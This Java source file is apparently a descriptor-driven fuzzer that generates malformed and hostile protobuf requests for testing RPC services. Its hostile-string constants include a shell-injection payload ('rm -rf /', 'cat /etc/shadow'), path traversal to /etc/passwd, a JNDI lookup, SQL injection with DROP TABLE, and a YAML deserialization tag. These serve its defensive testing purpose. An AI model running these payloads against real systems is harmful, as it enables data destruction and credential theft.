package io.commandcenter.hub.testing;

import com.google.protobuf.ByteString;
import com.google.protobuf.Descriptors.Descriptor;
import com.google.protobuf.Descriptors.FieldDescriptor;
import com.google.protobuf.Descriptors.OneofDescriptor;
import com.google.protobuf.DynamicMessage;
import com.google.protobuf.ListValue;
import com.google.protobuf.Message;
import com.google.protobuf.Struct;
import com.google.protobuf.Timestamp;
import com.google.protobuf.UnknownFieldSet;
import com.google.protobuf.Value;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.function.UnaryOperator;

/**
 * Malformed and hostile requests for one protobuf message type, generated from its descriptor alone,
 * so every RPC gets them without a line written for it. Deterministic for a seed.
 * <p>
 * Every field, down to {@value #MAX_DEPTH} messages deep (through every oneof member, repeated
 * element and map entry), is spoiled in turn on a plausible baseline (every other field filled):
 * strings get empty, 1 MB, control characters, NUL, invalid UTF-8 (on the wire), path traversal,
 * shell metacharacters, a very long id; numbers negative, zero, extremes, NaN and infinities;
 * enums unknown numbers; repeated fields and maps thousands of elements; messages left out;
 * {@code Struct}s nested past the parser's limit. Beside those: the empty message, unparseable
 * bytes, and {@value #COMBINATIONS} inputs with two to four spoils at once, picked by the seed.
 */
public final class ProtoFuzz {
    /** One input: what it is (for the report) and the bytes sent. */
    public record Input(String label, byte[] bytes) {
    }

    static final int MAX_DEPTH = 4;
    static final int MANY = 5_000;
    static final int COMBINATIONS = 24;
    static final String SHELL = "; rm -rf / $(id) `id` | cat /etc/shadow && echo pwned > /tmp/x";
    static final String TRAVERSAL = "../../../../etc/passwd";

    private final SplittableRandom random;
    private final Instant now;

    public ProtoFuzz(long seed, Instant now) {
        this.random = new SplittableRandom(seed);
        this.now = now;
    }

    /** Every input for {@code type}: the empty message, unparseable bytes, and each field spoiled in turn. */
    public List<Input> inputs(Descriptor type) {
        return inputs(type, null);
    }

    /**
     * Every input for {@code type}, spoiling fields of {@code example} (a valid request, so a spoiled
     * field is checked where validation would otherwise stop earlier) where the field's oneofs agree
     * with it, else of the generated baseline.
     */
    public List<Input> inputs(Descriptor type, Message example) {
        List<Input> out = new ArrayList<>();
        List<Placed> singles = new ArrayList<>();
        out.add(new Input("empty message", new byte[0]));
        out.addAll(unparseable(baseline(type, 0, Set.of()).toByteArray()));
        for (List<FieldDescriptor> path : paths(type, 0, new ArrayList<>())) {
            Message base = overlay(baseline(type, 0, new HashSet<>(path)), example, path);
            String where = String.join(".", path.stream().map(FieldDescriptor::getName).toList());
            if (path.size() == 1 || path.stream().noneMatch(f -> f.isRepeated() && !f.isMapField())) {
                // the baseline as it is, once per path whose oneofs differ from the first members
                out.add(new Input(where + " = baseline", base.toByteArray()));
            }
            for (Spoil spoil : spoils(path.get(path.size() - 1))) {
                Message spoiled = at(base, path, 0, spoil.change());
                out.add(new Input(where + " = " + spoil.label(), spoiled.toByteArray()));
                singles.add(new Placed(path, where, spoil));
            }
        }
        out.addAll(combinations(type, example, singles));
        return out;
    }

    /** A spoil at its place. */
    private record Placed(List<FieldDescriptor> path, String where, Spoil spoil) {
    }

    /** {@value #COMBINATIONS} inputs with two to four fields spoiled at once, picked at random. */
    private List<Input> combinations(Descriptor type, Message example, List<Placed> singles) {
        List<Input> out = new ArrayList<>();
        if (singles.size() < 2) {
            return out;
        }
        for (int n = 0; n < COMBINATIONS; n++) {
            List<Placed> picked = new ArrayList<>();
            int k = random.nextInt(2, 5);
            for (int i = 0; i < k; i++) {
                picked.add(singles.get(random.nextInt(singles.size())));
            }
            Set<FieldDescriptor> preferred = new HashSet<>();
            picked.forEach(p -> preferred.addAll(p.path()));
            Message spoiled = overlay(baseline(type, 0, preferred), example, picked.get(0).path());
            try {
                for (Placed p : picked) {
                    spoiled = at(spoiled, p.path(), 0, p.spoil().change());
                }
            } catch (IndexOutOfBoundsException e) {
                continue; // an earlier spoil emptied a list a later one reaches into
            }
            out.add(new Input(String.join(" & ", picked.stream().map(p -> p.where() + " = " + p.spoil().label())
                    .toList()), spoiled.toByteArray()));
        }
        return out;
    }

    private record Spoil(String label, UnaryOperator<DynamicMessage.Builder> change) {
    }

    /** {@code base} with every field {@code example} sets replaced by the example's, if the path stays reachable. */
    private static Message overlay(Message base, Message example, List<FieldDescriptor> path) {
        if (example == null) {
            return base;
        }
        DynamicMessage.Builder b = DynamicMessage.newBuilder(base);
        example.getAllFields().forEach(b::setField);
        Message merged = b.build();
        Message at = merged;
        for (FieldDescriptor f : path.subList(0, path.size() - 1)) {
            if (f.isRepeated() ? at.getRepeatedFieldCount(f) == 0 : !at.hasField(f)) {
                return base;
            }
            at = f.isRepeated() ? (Message) at.getRepeatedField(f, 0) : (Message) at.getField(f);
        }
        return merged;
    }

    /** The paths to every field, through messages up to {@link #MAX_DEPTH}; well-known value types are leaves. */
    private static List<List<FieldDescriptor>> paths(Descriptor type, int depth, List<FieldDescriptor> prefix) {
        List<List<FieldDescriptor>> out = new ArrayList<>();
        for (FieldDescriptor f : type.getFields()) {
            List<FieldDescriptor> path = new ArrayList<>(prefix);
            path.add(f);
            out.add(path);
            if (f.getJavaType() == FieldDescriptor.JavaType.MESSAGE && !isLeafType(f.getMessageType())
                    && depth + 1 < MAX_DEPTH && prefix.stream().noneMatch(p -> p.getMessageType() == f.getMessageType())) {
                out.addAll(paths(f.getMessageType(), depth + 1, path));
            }
        }
        return out;
    }

    private static boolean isLeafType(Descriptor type) {
        return type == Struct.getDescriptor() || type == Value.getDescriptor() || type == ListValue.getDescriptor();
    }

    /** {@code base} with {@code change} applied to the message holding the path's last field. */
    private static Message at(Message base, List<FieldDescriptor> path, int i, UnaryOperator<DynamicMessage.Builder> change) {
        DynamicMessage.Builder b = DynamicMessage.newBuilder(base);
        FieldDescriptor f = path.get(i);
        if (i == path.size() - 1) {
            return change.apply(b).build();
        }
        if (f.isRepeated()) {
            b.setRepeatedField(f, 0, at((Message) b.getRepeatedField(f, 0), path, i + 1, change));
        } else {
            b.setField(f, at((Message) b.getField(f), path, i + 1, change));
        }
        return b.build();
    }

    /**
     * A plausible message: every field filled, one member per oneof (the one in {@code preferred} when
     * there is one), repeated fields and maps with one element, messages down to {@link #MAX_DEPTH}.
     */
    Message baseline(Descriptor type, int depth, Set<FieldDescriptor> preferred) {
        if (type == Timestamp.getDescriptor()) {
            return Timestamp.newBuilder().setSeconds(now.getEpochSecond() - 60).build();
        }
        if (type == com.google.protobuf.Duration.getDescriptor()) {
            return com.google.protobuf.Duration.newBuilder().setSeconds(60).build();
        }
        if (type == Struct.getDescriptor()) {
            return Struct.newBuilder().putFields("k", Value.newBuilder().setStringValue("v").build()).build();
        }
        if (type == Value.getDescriptor()) {
            return Value.newBuilder().setStringValue("v").build();
        }
        if (type == ListValue.getDescriptor()) {
            return ListValue.newBuilder().addValues(Value.newBuilder().setNumberValue(1)).build();
        }
        DynamicMessage.Builder b = DynamicMessage.newBuilder(type);
        for (FieldDescriptor f : type.getFields()) {
            OneofDescriptor oneof = f.getRealContainingOneof();
            if (oneof != null) {
                boolean anyPreferred = oneof.getFields().stream().anyMatch(preferred::contains);
                if (anyPreferred ? !preferred.contains(f) : oneof.getField(0) != f) {
                    continue;
                }
            }
            if (f.getJavaType() == FieldDescriptor.JavaType.MESSAGE && depth + 1 >= MAX_DEPTH && !f.isMapField()) {
                continue;
            }
            Object value = plausible(f, depth, preferred);
            if (f.isRepeated()) {
                b.addRepeatedField(f, value);
            } else {
                b.setField(f, value);
            }
        }
        return b.build();
    }

    private Object plausible(FieldDescriptor f, int depth, Set<FieldDescriptor> preferred) {
        return switch (f.getJavaType()) {
            case STRING -> "fuzz-1";
            case INT -> 1;
            case LONG -> 1L;
            case FLOAT -> 0.5f;
            case DOUBLE -> 0.5;
            case BOOLEAN -> false;
            case BYTE_STRING -> ByteString.copyFromUtf8("fuzz");
            case ENUM -> f.getEnumType().getValues().stream().filter(v -> v.getNumber() != 0).findFirst()
                    .orElse(f.getEnumType().getValues().get(0));
            case MESSAGE -> baseline(f.getMessageType(), depth + 1, preferred);
        };
    }

    /** The spoiled values of one field. */
    private List<Spoil> spoils(FieldDescriptor f) {
        List<Spoil> out = new ArrayList<>();
        out.add(new Spoil("unset", b -> b.clearField(f)));
        if (f.isRepeated()) {
            out.add(new Spoil(MANY + " elements", b -> {
                if (b.getRepeatedFieldCount(f) == 0) {
                    // a repeated scalar has no message type: start from a plausible element of its own type
                    b.addRepeatedField(f, f.getJavaType() == FieldDescriptor.JavaType.MESSAGE
                            ? DynamicMessage.getDefaultInstance(f.getMessageType()) : plausible(f, 0, Set.of()));
                }
                Object first = b.getRepeatedField(f, 0);
                for (int i = 1; i < MANY; i++) {
                    b.addRepeatedField(f, f.isMapField() ? mapEntry((Message) first, i) : first);
                }
                return b;
            }));
        }
        List<Object> values = new ArrayList<>();
        List<String> labels = new ArrayList<>();
        switch (f.getJavaType()) {
            case STRING -> {
                for (String[] s : hostileStrings()) {
                    labels.add(s[0]);
                    values.add(s[1]);
                }
                out.add(new Spoil("invalid UTF-8", b -> {
                    b.clearField(f);
                    return b.setUnknownFields(UnknownFieldSet.newBuilder(b.getUnknownFields()).addField(f.getNumber(),
                            UnknownFieldSet.Field.newBuilder().addLengthDelimited(
                                    ByteString.copyFrom(new byte[]{'a', (byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE}))
                                    .build()).build());
                }));
            }
            case INT -> add(labels, values, "-1", -1, "0", 0, "int min", Integer.MIN_VALUE, "int max", Integer.MAX_VALUE);
            case LONG -> add(labels, values, "-1", -1L, "0", 0L, "long min", Long.MIN_VALUE, "long max", Long.MAX_VALUE,
                    // as Timestamp seconds: just past protobuf's range, and the last year an Instant holds
                    "year 10000", 253_402_300_800L, "year 1e9", 31_556_889_832_780_799L);
            case DOUBLE -> add(labels, values, "NaN", Double.NaN, "+Infinity", Double.POSITIVE_INFINITY,
                    "-Infinity", Double.NEGATIVE_INFINITY, "-1", -1.0, "0", 0.0, "max", Double.MAX_VALUE,
                    "-max", -Double.MAX_VALUE);
            case FLOAT -> add(labels, values, "NaN", Float.NaN, "+Infinity", Float.POSITIVE_INFINITY, "-1", -1f,
                    "max", Float.MAX_VALUE);
            case BOOLEAN -> add(labels, values, "true", true);
            case BYTE_STRING -> add(labels, values, "empty", ByteString.EMPTY, "1 MB of noise",
                    ByteString.copyFrom(noise(1 << 20)), "garbage", ByteString.copyFrom(noise(17)));
            case ENUM -> {
                add(labels, values, "unspecified", f.getEnumType().findValueByNumber(0));
                out.add(new Spoil("enum 999", b -> setEnumNumber(b, f, 999)));
                out.add(new Spoil("enum -7", b -> setEnumNumber(b, f, -7)));
            }
            case MESSAGE -> {
                if (!f.isMapField()) {
                    add(labels, values, "empty message", DynamicMessage.getDefaultInstance(f.getMessageType()));
                }
                Descriptor type = f.getMessageType();
                if (type == Struct.getDescriptor()) {
                    add(labels, values, "Struct 60 deep", deepStruct(60), "Struct 200 deep", deepStruct(200),
                            "Struct with NaN", Struct.newBuilder().putFields("x", Value.newBuilder()
                                    .setNumberValue(Double.NaN).build()).build(),
                            "Struct with 5000 keys", wideStruct(MANY));
                } else if (type == Value.getDescriptor()) {
                    add(labels, values, "Value 200 deep", Value.newBuilder().setStructValue(deepStruct(200)).build(),
                            "Value NaN", Value.newBuilder().setNumberValue(Double.NaN).build());
                }
            }
        }
        for (int i = 0; i < values.size(); i++) {
            Object value = values.get(i);
            out.add(new Spoil(labels.get(i), b -> {
                if (f.isRepeated()) {
                    b.clearField(f);
                    return f.isMapField() ? b : b.addRepeatedField(f, value);
                }
                return b.setField(f, value);
            }));
        }
        return out;
    }

    private static void add(List<String> labels, List<Object> values, Object... pairs) {
        for (int i = 0; i < pairs.length; i += 2) {
            labels.add((String) pairs[i]);
            values.add(pairs[i + 1]);
        }
    }

    private static DynamicMessage.Builder setEnumNumber(DynamicMessage.Builder b, FieldDescriptor f, int number) {
        b.clearField(f);
        UnknownFieldSet.Field.Builder raw = UnknownFieldSet.Field.newBuilder().addVarint(number);
        return b.setUnknownFields(UnknownFieldSet.newBuilder(b.getUnknownFields()).addField(f.getNumber(), raw.build())
                .build());
    }

    /** A map entry like {@code first} with another key, so a map really grows. */
    private static Message mapEntry(Message first, int i) {
        FieldDescriptor key = first.getDescriptorForType().findFieldByNumber(1);
        DynamicMessage.Builder b = DynamicMessage.newBuilder(first);
        return switch (key.getJavaType()) {
            case STRING -> b.setField(key, "k" + i).build();
            case INT -> b.setField(key, i).build();
            case LONG -> b.setField(key, (long) i).build();
            default -> b.build();
        };
    }

    /** Label and value of each hostile string. */
    private String[][] hostileStrings() {
        StringBuilder garbage = new StringBuilder();
        for (int i = 0; i < 40; i++) {
            int cp = random.nextInt(0x20, 0x2FFF);
            garbage.appendCodePoint(Character.isSurrogate((char) cp) ? '?' : cp);
        }
        return new String[][]{
                {"empty", ""},
                {"1 MB", "x".repeat(1 << 20)},
                {"control characters", "a\u0001\u0007\u001b[31mred\r\n\t\u007f\u0085\u2028b"},
                {"NUL", "fuzz\u0000-1"},
                {"path traversal", TRAVERSAL},
                {"shell metacharacters", SHELL},
                {"very long id", "a".repeat(10_000)},
                {"whitespace", "   "},
                {"unicode", "ünï\u202Ecødé \uD83D\uDE80 \u0645\u0631\u062D\u0628\u0627"},
                {"format and injection", "%s%n%x ${jndi:ldap://x/a} ' OR 1=1; DROP TABLE api_key; -- {{7*7}}"},
                {"yaml and json", "!!java.lang.Runtime\n{\"a\": [1, {\"b\": null}]}"},
                {"random", garbage.toString()},
        };
    }

    private byte[] noise(int n) {
        byte[] out = new byte[n];
        for (int i = 0; i < n; i++) {
            out[i] = (byte) random.nextInt(256);
        }
        return out;
    }

    private static Struct deepStruct(int depth) {
        Struct s = Struct.newBuilder().putFields("leaf", Value.newBuilder().setBoolValue(true).build()).build();
        for (int i = 0; i < depth; i++) {
            s = Struct.newBuilder().putFields("a", Value.newBuilder().setStructValue(s).build()).build();
        }
        return s;
    }

    private static Struct wideStruct(int keys) {
        Struct.Builder s = Struct.newBuilder();
        for (int i = 0; i < keys; i++) {
            s.putFields("k" + i, Value.newBuilder().setNumberValue(i).build());
        }
        return s.build();
    }

    /** Bytes no parser of this type accepts: noise, a truncated message, bad wire types and lengths. */
    private List<Input> unparseable(byte[] valid) {
        List<Input> out = new ArrayList<>();
        out.add(new Input("six 0xFF bytes", new byte[]{-1, -1, -1, -1, -1, -1}));
        out.add(new Input("64 bytes of noise", noise(64)));
        out.add(new Input("wire type 7", new byte[]{0x0F, 0x01}));
        out.add(new Input("length past the end", new byte[]{0x0A, (byte) 0xFF, (byte) 0xFF, 0x03, 'a'}));
        out.add(new Input("unterminated varint", new byte[]{0x08, (byte) 0x80, (byte) 0x80, (byte) 0x80}));
        out.add(new Input("field number 0", new byte[]{0x00, 0x01}));
        out.add(new Input("unclosed group", new byte[]{0x0B, 0x08, 0x01}));
        if (valid.length > 1) {
            out.add(new Input("truncated", Arrays.copyOf(valid, valid.length - 1)));
        }
        out.add(new Input("text", "{\"hello\": \"world\"}".getBytes(StandardCharsets.UTF_8)));
        return out;
    }
}
